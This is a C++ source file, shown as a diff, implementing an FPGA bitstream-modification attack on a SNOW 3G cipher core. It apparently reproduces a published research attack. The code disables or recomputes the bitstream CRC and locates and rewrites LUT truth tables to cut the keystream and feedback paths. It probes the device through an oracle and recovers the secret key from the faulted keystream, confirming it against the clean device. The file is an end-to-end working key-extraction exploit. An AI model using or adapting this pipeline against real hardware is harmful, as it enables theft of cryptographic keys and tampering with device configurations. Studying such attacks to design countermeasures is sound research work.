@@ -1,0 +1,590 @@
+#include "attack/pipeline.h"
+
+#include <algorithm>
+#include <bit>
+#include <cstdio>
+#include <map>
+#include <set>
+
+#include "attack/countermeasure.h"
+#include "attack/scan.h"
+#include "bitstream/parser.h"
+#include "bitstream/patcher.h"
+#include "snow3g/snow3g.h"
+
+namespace sbm::attack {
+
+using logic::Candidate;
+using logic::TruthTable6;
+
+namespace {
+
+/// Key-independent reference keystreams simulated with the attacker's own
+/// software model of SNOW 3G.  Key/IV values are irrelevant: the zero-load
+/// fault makes every one of these sequences constant.
+std::vector<u32> reference(snow3g::FaultConfig faults, size_t words) {
+  snow3g::Snow3g model({}, {}, faults);
+  return model.keystream(words);
+}
+
+}  // namespace
+
+Attack::Attack(Oracle& oracle, std::span<const u8> golden_bitstream, PipelineConfig config)
+    : oracle_(oracle),
+      config_(config),
+      golden_(golden_bitstream.begin(), golden_bitstream.end()) {}
+
+void Attack::note(std::string message) {
+  if (config_.verbose) std::printf("[attack] %s\n", message.c_str());
+  if (active_ != nullptr) active_->log.push_back(std::move(message));
+}
+
+std::optional<std::vector<u32>> Attack::probe(const std::vector<u8>& bytes) {
+  return oracle_.run(bytes, config_.words);
+}
+
+std::vector<u8> Attack::with_patches(const std::vector<u8>& base,
+                                     const std::vector<Patch>& patches) {
+  std::vector<u8> bytes = base;
+  for (const Patch& p : patches) {
+    bitstream::write_lut_init(bytes, p.byte_index, config_.find.offset_d, p.order, p.init);
+  }
+  // In recompute mode every probe carries a valid CRC (Section V-B's first
+  // option); in disable mode base_ already has the check removed.
+  if (config_.crc == CrcHandling::kRecompute && !patches.empty()) {
+    bitstream::recompute_crc(bytes);
+  }
+  return bytes;
+}
+
+AttackResult Attack::execute() {
+  AttackResult result;
+  active_ = &result;
+
+  // Step 0: baseline keystream and CRC neutralization.
+  const auto z0 = probe(golden_);
+  if (!z0) {
+    result.failure = "golden bitstream rejected by device";
+    active_ = nullptr;
+    return result;
+  }
+  z_golden_ = *z0;
+  base_ = golden_;
+  if (config_.crc == CrcHandling::kDisable) {
+    const size_t disabled = bitstream::disable_crc(base_);
+    note("disabled " + std::to_string(disabled) + " CRC check(s)");
+    const auto z1 = probe(base_);
+    if (!z1 || *z1 != z_golden_) {
+      result.failure = "CRC-disabled bitstream does not behave like the original";
+      active_ = nullptr;
+      return result;
+    }
+  } else {
+    note("CRC handling: recompute-and-replace on every probe");
+  }
+
+  size_t mark = oracle_.runs();
+  result.phase_runs.emplace_back("setup", mark);
+  auto tracked = [&](const char* name, bool ok) {
+    result.phase_runs.emplace_back(name, oracle_.runs() - mark);
+    mark = oracle_.runs();
+    return ok;
+  };
+  const bool ok = tracked("z-path", phase_zpath(result)) &&
+                  tracked("beta", phase_beta(result)) &&
+                  tracked("feedback", phase_feedback(result)) &&
+                  tracked("alpha2", phase_alpha2(result)) &&
+                  tracked("extract", phase_extract(result));
+  result.success = ok;
+  result.oracle_runs = oracle_.runs();
+  active_ = nullptr;
+  return result;
+}
+
+bool Attack::phase_zpath(AttackResult& result) {
+  // Scan the keystream-path family and sort candidates by match count,
+  // largest first (Section VI-C: "starting from the ones with the largest
+  // number of matches n").
+  std::vector<FamilyCount> counts;
+  for (const Candidate& c : attack_family()) {
+    if (c.path != logic::TargetPath::kKeystream) continue;
+    counts.push_back({c, find_lut(base_, c.function, config_.find)});
+  }
+  std::sort(counts.begin(), counts.end(),
+            [](const FamilyCount& a, const FamilyCount& b) { return a.count() > b.count(); });
+
+  std::set<size_t> probed;
+  std::set<unsigned> covered;
+  for (const FamilyCount& fc : counts) {
+    if (covered.size() == 32) break;
+    for (const LutMatch& m : fc.matches) {
+      if (covered.size() == 32) break;
+      if (!probed.insert(m.byte_index).second) continue;
+      // alpha: f = 0 — stuck the whole LUT at 0 and watch which bit dies.
+      const auto z = probe(with_patches(base_, {{m.byte_index, m.order, 0}}));
+      if (!z) continue;
+      int dead_bit = -1;
+      bool clean = true;
+      u32 diff_mask = 0;
+      for (size_t t = 0; t < z->size() && clean; ++t) diff_mask |= (*z)[t] ^ z_golden_[t];
+      if (std::popcount(diff_mask) == 1) {
+        const unsigned bit = static_cast<unsigned>(std::countr_zero(diff_mask));
+        bool stuck0 = true;
+        for (const u32 w : *z) stuck0 = stuck0 && bit_of(w, bit) == 0;
+        if (stuck0) dead_bit = static_cast<int>(bit);
+      }
+      if (dead_bit < 0 || !clean) continue;
+      if (covered.count(static_cast<unsigned>(dead_bit))) continue;  // overlap pruning
+      covered.insert(static_cast<unsigned>(dead_bit));
+      ZPathLut lut;
+      lut.match = m;
+      lut.bit = static_cast<unsigned>(dead_bit);
+      for (size_t k = 0; k < 3 && k < fc.candidate.xor_vars.size(); ++k) {
+        lut.trio[k] = m.perm[fc.candidate.xor_vars[k]];
+      }
+      result.lut1.push_back(lut);
+    }
+  }
+  note("z-path: verified " + std::to_string(result.lut1.size()) + "/32 LUT1 positions");
+  if (result.lut1.size() != 32) {
+    result.failure = "could not identify all 32 z-path LUTs";
+    return false;
+  }
+  return true;
+}
+
+bool Attack::phase_beta(AttackResult& result) {
+  // Gather load-MUX candidates: exact full-table shapes plus half-table MUX
+  // matches (for dual-output sites packed with arbitrary partners).  The
+  // half-table scan also fires at unaligned byte positions whose chunks
+  // straddle two real LUTs; the attacker prunes those with the frame
+  // geometry learned from parsing the packet stream (FDRI offset and frame
+  // size are format knowledge, exactly as in Section V).
+  const bitstream::ParseResult parsed = bitstream::parse_bitstream(base_);
+  auto aligned = [&](size_t l) {
+    if (!parsed.ok || parsed.fdri_byte_offset == 0) return true;
+    if (l < parsed.fdri_byte_offset) return false;
+    const size_t rel = l - parsed.fdri_byte_offset;
+    return rel % 2 == 0 && (rel / bitstream::kFrameBytes) % 4 == 0;
+  };
+
+  struct MuxHit {
+    LutMatch match;         // full-table hit (half_hit == false)
+    HalfMatch half;         // half-table hit (half_hit == true)
+    const Candidate* cand;  // which MUX shape matched
+    bool half_hit;
+  };
+  std::vector<MuxHit> hits;
+  std::set<size_t> seen;
+  for (const Candidate& c : mux_scan_family()) {
+    for (const LutMatch& m : find_lut(base_, c.function, config_.find)) {
+      if (aligned(m.byte_index) && seen.insert(m.byte_index).second) {
+        hits.push_back({m, {}, &c, false});
+      }
+    }
+  }
+  // Dual-output sites pair a MUX with an arbitrary partner function, so the
+  // full-table scan misses them; search each <= 5-input MUX shape as a
+  // half-table too.
+  std::set<std::pair<size_t, bool>> seen_half;
+  for (const Candidate& c : mux_scan_family()) {
+    if (c.function.support_size() > 5 || c.function.depends_on(5)) continue;
+    for (const HalfMatch& h : find_lut_half(base_, c.function.half(0), config_.find)) {
+      if (!aligned(h.byte_index) || seen.count(h.byte_index)) continue;
+      if (seen_half.insert({h.byte_index, h.o5_half}).second) hits.push_back({{}, h, &c, true});
+    }
+  }
+  note("beta: " + std::to_string(hits.size()) + " load-MUX candidates");
+
+  // The zero-load reference: LFSR loaded with 0s, everything else intact.
+  const std::vector<u32> ref = reference({0, false, true}, config_.words);
+
+  for (const bool active_high : {true, false}) {
+    // One patch per byte position; half rewrites of the same site merge.
+    std::map<size_t, Patch> patch_of;
+    for (const MuxHit& h : hits) {
+      if (!h.half_hit) {
+        const TruthTable6 rewrite = h.cand->load_zero_rewrite(active_high);
+        patch_of[h.match.byte_index] = {h.match.byte_index, h.match.order,
+                                        rewrite.permuted(h.match.perm).bits()};
+        continue;
+      }
+      const u32 new_half =
+          permute_half5(h.cand->load_zero_rewrite(active_high).half(0), h.half.perm);
+      auto it = patch_of.find(h.half.byte_index);
+      u64 init = it != patch_of.end()
+                     ? it->second.init
+                     : bitstream::read_lut_init(base_, h.half.byte_index, config_.find.offset_d,
+                                                h.half.order);
+      const u32 lo = static_cast<u32>(init);
+      const u32 hi = static_cast<u32>(init >> 32);
+      if (lo == hi) {
+        // Vacuous (single-output) table: both halves must change together.
+        init = u64{new_half} | (u64{new_half} << 32);
+      } else if (h.half.o5_half) {
+        init = (init & 0xffffffff00000000ull) | new_half;
+      } else {
+        init = (init & 0x00000000ffffffffull) | (u64{new_half} << 32);
+      }
+      patch_of[h.half.byte_index] = {h.half.byte_index, h.half.order, init};
+    }
+    std::vector<Patch> patches;
+    for (const auto& [l, p] : patch_of) patches.push_back(p);
+
+    auto attempt = [&](const std::vector<Patch>& set) {
+      const auto z = probe(with_patches(base_, set));
+      return z && *z == ref;
+    };
+    if (attempt(patches)) {
+      beta_patches_ = std::move(patches);
+    } else {
+      // Leave-one-out refinement: a handful of false positives may have
+      // landed on non-MUX logic; drop the ones whose removal helps.
+      std::vector<Patch> kept = patches;
+      bool fixed = false;
+      for (size_t i = 0; i < patches.size() && !fixed; ++i) {
+        std::vector<Patch> trial;
+        for (size_t j = 0; j < kept.size(); ++j) {
+          if (kept[j].byte_index != patches[i].byte_index) trial.push_back(kept[j]);
+        }
+        if (trial.size() == kept.size()) continue;
+        if (attempt(trial)) {
+          kept = std::move(trial);
+          fixed = true;
+        }
+      }
+      if (!fixed) continue;  // try the other polarity
+      beta_patches_ = std::move(kept);
+    }
+    fold_sites_.clear();
+    std::set<size_t> kept_sites;
+    for (const Patch& p : beta_patches_) kept_sites.insert(p.byte_index);
+    for (const MuxHit& h : hits) {
+      if (h.cand == nullptr || h.cand->name.rfind("mux_fold", 0) != 0) continue;
+      const size_t l = h.half_hit ? h.half.byte_index : h.match.byte_index;
+      if (kept_sites.count(l)) fold_sites_.push_back(l);
+    }
+    result.load_active_high = active_high;
+    result.mux_patches = beta_patches_.size();
+    note(std::string("beta established with ") + std::to_string(beta_patches_.size()) +
+         " MUX rewrites, load active-" + (active_high ? "high" : "low"));
+    return true;
+  }
+  result.failure = "beta fault (all-zero LFSR load) could not be established";
+  return false;
+}
+
+namespace {
+
+/// Applies a feedback rewrite recipe to a stored 64-bit table.
+u64 apply_feedback_rewrite(u64 stored, const FeedbackLut& lut) {
+  if (lut.half < 0) {
+    if (lut.zero_all) return 0;
+    TruthTable6 t(stored);
+    for (const u8 v : lut.zero_vars) t = t.cofactor(v, 0);
+    return t.bits();
+  }
+  const u32 keep = lut.half == 0 ? static_cast<u32>(stored >> 32) : static_cast<u32>(stored);
+  u32 h = lut.half == 0 ? static_cast<u32>(stored) : static_cast<u32>(stored >> 32);
+  if (lut.zero_all) {
+    h = 0;
+  } else {
+    TruthTable6 t(u64{h} | (u64{h} << 32));
+    for (const u8 v : lut.zero_vars) t = t.cofactor(v, 0);
+    h = t.half(0);
+  }
+  return lut.half == 0 ? (u64{h} | (u64{keep} << 32)) : (u64{keep} | (u64{h} << 32));
+}
+
+}  // namespace
+
+Attack::Patch Attack::feedback_patch(const std::vector<u8>& base,
+                                     const std::vector<u8>& base_beta,
+                                     const FeedbackLut& lut) const {
+  const u64 original =
+      bitstream::read_lut_init(base, lut.byte_index, config_.find.offset_d, lut.order);
+  const u64 beta =
+      bitstream::read_lut_init(base_beta, lut.byte_index, config_.find.offset_d, lut.order);
+  const u64 rewritten = apply_feedback_rewrite(beta, lut);
+  // Minterms the beta fault zeroed (the load branch) come back from the
+  // original; everywhere else the verified rewrite governs.
+  const u64 branch = original ^ beta;
+  return {lut.byte_index, lut.order, (rewritten & ~branch) | (original & branch)};
+}
+
+bool Attack::phase_feedback(AttackResult& result) {
+  // Per-bit key-independent signatures: the reference keystream with the W
+  // injection cut on exactly one bit, simulated with the attacker's model.
+  std::map<std::vector<u32>, unsigned> signature_to_bit;
+  for (unsigned i = 0; i < 32; ++i) {
+    signature_to_bit.emplace(reference({u32{1} << i, false, true}, config_.words), i);
+  }
+  const std::vector<u32> no_effect = reference({0, false, true}, config_.words);
+  const std::vector<u8> base_beta = with_patches(base_, beta_patches_);
+
+  std::set<unsigned> covered;
+  std::set<size_t> z_claimed;
+  for (const ZPathLut& z : result.lut1) z_claimed.insert(z.match.byte_index);
+  auto try_rewrite = [&](FeedbackLut lut, u64 stored) {
+    if (apply_feedback_rewrite(stored, lut) == stored) return false;  // no-op
+    const auto z = probe(with_patches(base_beta, {feedback_patch(base_beta, base_beta, lut)}));
+    if (!z || *z == no_effect) return false;
+    const auto it = signature_to_bit.find(*z);
+    if (it == signature_to_bit.end()) return false;
+    lut.bit = it->second;
+    covered.insert(it->second);
+    result.feedback.push_back(std::move(lut));
+    return true;
+  };
+
+  // Stage 1 — precise probes on family matches: the candidate says exactly
+  // which stored variables form the hypothesized XOR group; cofactor them
+  // all to 0 (the generalization of the paper's Eq. (1)).
+  for (const Candidate& c : attack_family()) {
+    if (covered.size() == 32) break;
+    if (c.path != logic::TargetPath::kFeedback) continue;
+    for (const LutMatch& m : find_lut(base_beta, c.function, config_.find)) {
+      if (z_claimed.count(m.byte_index)) continue;
+      FeedbackLut lut{m.byte_index, m.order, -1, false, {}, 0};
+      for (const u8 xv : c.xor_vars) lut.zero_vars.push_back(m.perm[xv]);
+      const u64 stored =
+          bitstream::read_lut_init(base_beta, m.byte_index, config_.find.offset_d, m.order);
+try_rewrite(std::move(lut), stored);
+    }
+    if (c.function.support_size() <= 5 && !c.function.depends_on(5)) {
+      for (const HalfMatch& h : find_lut_half(base_beta, c.function.half(0), config_.find)) {
+        if (z_claimed.count(h.byte_index)) continue;
+        FeedbackLut lut{h.byte_index, h.order, h.o5_half ? 0 : 1, false, {}, 0};
+        for (const u8 xv : c.xor_vars) lut.zero_vars.push_back(h.perm[xv]);
+        const u64 stored =
+            bitstream::read_lut_init(base_beta, h.byte_index, config_.find.offset_d, h.order);
+        try_rewrite(std::move(lut), stored);
+      }
+    }
+  }
+
+  // Stage 2 — generic sweep over every occupied, frame-aligned site, trying
+  // the v = 0 rewrites from cheapest to deepest: the LUT *is* v (zero it),
+  // v is a leaf (single cofactor), or v is an absorbed XOR group of 2..4
+  // variables.  Run only while W bits remain unaccounted for.
+  const bitstream::ParseResult parsed = bitstream::parse_bitstream(base_);
+  std::vector<size_t> sites;
+  std::set<size_t> queued;
+  auto enqueue = [&](size_t l) {
+    if (!z_claimed.count(l) && queued.insert(l).second) sites.push_back(l);
+  };
+  for (const Patch& p : beta_patches_) enqueue(p.byte_index);
+  if (parsed.ok) {
+    const size_t frames = parsed.frame_data.size() / bitstream::kFrameBytes;
+    for (size_t frame = 0; frame + 3 < frames; frame += 4) {
+      for (size_t off = 0; off + 1 < bitstream::kFrameBytes; off += 2) {
+        const size_t l = parsed.fdri_byte_offset + frame * bitstream::kFrameBytes + off;
+        bool empty = true;
+        for (unsigned c = 0; c < 4 && empty; ++c) {
+          empty = base_[l + c * config_.find.offset_d] == 0 &&
+                  base_[l + c * config_.find.offset_d + 1] == 0;
+        }
+        if (!empty) enqueue(l);
+      }
+    }
+  }
+
+  auto groups_of = [](const TruthTable6& t, unsigned vars, unsigned size) {
+    std::vector<u8> support;
+    for (u8 x = 0; x < vars; ++x) {
+      if (t.depends_on(x)) support.push_back(x);
+    }
+    std::vector<std::vector<u8>> groups;
+    const size_t n = support.size();
+    if (size > n) return groups;
+    std::vector<u8> idx(size);
+    for (u8 i = 0; i < size; ++i) idx[i] = i;
+    while (true) {
+      std::vector<u8> g;
+      for (const u8 i : idx) g.push_back(support[i]);
+      groups.push_back(std::move(g));
+      int k = static_cast<int>(size) - 1;
+      while (k >= 0 && idx[static_cast<size_t>(k)] == n - size + static_cast<size_t>(k)) --k;
+      if (k < 0) break;
+      ++idx[static_cast<size_t>(k)];
+      for (size_t j = static_cast<size_t>(k) + 1; j < size; ++j) idx[j] = idx[j - 1] + 1;
+    }
+    return groups;
+  };
+  auto sweep = [&](size_t l, const std::array<u8, 4>& order, int half, u64 stored,
+                   const TruthTable6& t, unsigned vars, unsigned group_size) {
+    if (group_size == 0) return try_rewrite({l, order, half, true, {}, 0}, stored);
+    bool hit = false;
+    for (const auto& g : groups_of(t, vars, group_size)) {
+      if (hit) break;
+      hit = try_rewrite({l, order, half, false, g, 0}, stored);
+    }
+    return hit;
+  };
+
+  // Depth-major sweep: cheap rewrites first (the LUT is v, or v is a leaf),
+  // deeper XOR groups only while W bits remain unaccounted for.
+  std::set<size_t> classified_sites;
+  // Stage 1.5 — the s15 load MUXes that folded with the feedback tree (their
+  // beta match used a mux_fold shape) are the prime suspects; sweep them to
+  // full depth first so the broad fabric scan is usually never needed.
+  std::vector<size_t> priority = fold_sites_;
+  std::vector<size_t> broad = sites;
+  for (const bool widened : {false, true}) {
+    if (covered.size() == 32) break;
+  for (unsigned group_size = 0; group_size <= 4 && covered.size() != 32; ++group_size) {
+    for (const size_t l : widened ? broad : priority) {
+      if (covered.size() == 32) break;
+      if (classified_sites.count(l)) continue;
+      for (const auto& order : bitstream::device_chunk_orders()) {
+        const u64 stored =
+            bitstream::read_lut_init(base_beta, l, config_.find.offset_d, order);
+        if (stored == 0) continue;
+        const u32 lo = static_cast<u32>(stored);
+        const u32 hi = static_cast<u32>(stored >> 32);
+        bool hit = false;
+        if (lo == hi) {
+          hit = sweep(l, order, -1, stored, TruthTable6(stored), 6, group_size);
+        } else {
+          // The attacker cannot tell a 6-input single-output LUT from a
+          // dual-output site, so try both interpretations: whole-table
+          // rewrites over 6 variables and per-half rewrites over 5.
+          hit = sweep(l, order, -1, stored, TruthTable6(stored), 6, group_size);
+          for (int half = 0; half < 2; ++half) {
+            const u32 h = half == 0 ? lo : hi;
+            hit = sweep(l, order, half, stored, TruthTable6(u64{h} | (u64{h} << 32)), 5,
+                        group_size) ||
+                  hit;
+          }
+        }
+        if (hit) {
+          classified_sites.insert(l);
+          break;  // the matching chunk order is settled for this site
+        }
+      }
+    }
+  }
+  }
+  note("feedback: covered " + std::to_string(covered.size()) + "/32 W bits with " +
+       std::to_string(result.feedback.size()) + " LUT rewrites");
+  if (covered.size() != 32) {
+    result.failure = "feedback path: not all 32 W bits could be cut";
+    return false;
+  }
+
+  // Paper's consistency check: all feedback cuts + beta must reproduce the
+  // key-independent keystream of Table III.
+  std::vector<Patch> all;
+  for (const FeedbackLut& f : result.feedback) {
+    all.push_back(feedback_patch(base_beta, base_beta, f));
+  }
+  const auto z = probe(with_patches(base_beta, all));
+  const std::vector<u32> table3 =
+      reference(snow3g::FaultConfig::key_independent(), config_.words);
+  if (!z || *z != table3) {
+    result.failure = "combined feedback cut does not reproduce the Table III keystream";
+    return false;
+  }
+  note("feedback cut verified against the key-independent keystream (Table III)");
+  return true;
+}
+
+bool Attack::phase_alpha2(AttackResult& result) {
+  // Base configuration: beta + full feedback cut; then test pair hypotheses
+  // on all 32 LUT1s at once.  Two runs resolve all 3^32 combinations.
+  const std::vector<u8> base_beta = with_patches(base_, beta_patches_);
+  std::vector<Patch> base_patches = beta_patches_;
+  for (const FeedbackLut& f : result.feedback) {
+    base_patches.push_back(feedback_patch(base_beta, base_beta, f));
+  }
+
+  auto hypothesis_pair = [](const ZPathLut& lut, int h) -> std::array<u8, 2> {
+    if (h == 0) return {lut.trio[0], lut.trio[1]};
+    if (h == 1) return {lut.trio[0], lut.trio[2]};
+    return {lut.trio[1], lut.trio[2]};
+  };
+
+  std::set<unsigned> resolved;
+  for (int h = 0; h < 2; ++h) {
+    std::vector<Patch> patches = base_patches;
+    for (const ZPathLut& lut : result.lut1) {
+      const u64 stored =
+          bitstream::read_lut_init(base_, lut.match.byte_index, config_.find.offset_d,
+                                   lut.match.order);
+      const auto pair = hypothesis_pair(lut, h);
+      const TruthTable6 rewrite =
+          TruthTable6(stored).cofactor(pair[0], 0).cofactor(pair[1], 0);
+      patches.push_back({lut.match.byte_index, lut.match.order, rewrite.bits()});
+    }
+    const auto z = probe(with_patches(base_, patches));
+    if (!z) continue;
+    for (ZPathLut& lut : result.lut1) {
+      if (lut.s0_var >= 0) continue;
+      bool zero = true;
+      for (const u32 w : *z) zero = zero && bit_of(w, lut.bit) == 0;
+      if (zero) {
+        const auto pair = hypothesis_pair(lut, h);
+        lut.s0_var = lut.trio[0] + lut.trio[1] + lut.trio[2] - pair[0] - pair[1];
+        resolved.insert(lut.bit);
+      }
+    }
+  }
+  // Bits resolved by neither run carry the third pair.
+  for (ZPathLut& lut : result.lut1) {
+    if (lut.s0_var < 0) {
+      lut.s0_var = lut.trio[0];
+      resolved.insert(lut.bit);
+    }
+  }
+  note("alpha2: XOR input pairs resolved with 2 keystream computations");
+  return resolved.size() == 32;
+}
+
+bool Attack::phase_extract(AttackResult& result) {
+  // Final faulty bitstream: feedback cut + z = s0; gamma loads normally (no
+  // beta patches), so S^0 = gamma(K, IV) is recoverable.
+  const std::vector<u8> base_beta = with_patches(base_, beta_patches_);
+  std::vector<Patch> patches;
+  for (const FeedbackLut& f : result.feedback) {
+    patches.push_back(feedback_patch(base_, base_beta, f));
+  }
+  for (const ZPathLut& lut : result.lut1) {
+    const u64 stored = bitstream::read_lut_init(base_, lut.match.byte_index,
+                                                config_.find.offset_d, lut.match.order);
+    std::array<u8, 2> pair{};
+    size_t k = 0;
+    for (const u8 v : lut.trio) {
+      if (static_cast<int>(v) != lut.s0_var) pair[k++] = v;
+    }
+    const TruthTable6 rewrite = TruthTable6(stored).cofactor(pair[0], 0).cofactor(pair[1], 0);
+    patches.push_back({lut.match.byte_index, lut.match.order, rewrite.bits()});
+  }
+  const auto z = probe(with_patches(base_, patches));
+  if (!z || z->size() < 16) {
+    result.failure = "final faulty bitstream rejected";
+    return false;
+  }
+  result.faulty_keystream = *z;
+
+  result.recovered_state = snow3g::state_from_faulty_keystream(*z);
+  const auto secrets = snow3g::extract_key(result.recovered_state);
+  if (!secrets) {
+    result.failure = "recovered state violates the gamma(K, IV) redundancies";
+    return false;
+  }
+  result.secrets = *secrets;
+  note("key recovered; verifying against the unmodified device");
+
+  // Paper step 6: simulate the keystream with the recovered key and compare
+  // with the clean device.
+  snow3g::Snow3g model(result.secrets.key, config_.iv);
+  const std::vector<u32> predicted = model.keystream(z_golden_.size());
+  result.key_confirmed = predicted == z_golden_;
+  if (!result.key_confirmed) {
+    result.failure = "recovered key does not reproduce the clean keystream";
+    return false;
+  }
+  return true;
+}
+
+}  // namespace sbm::attack
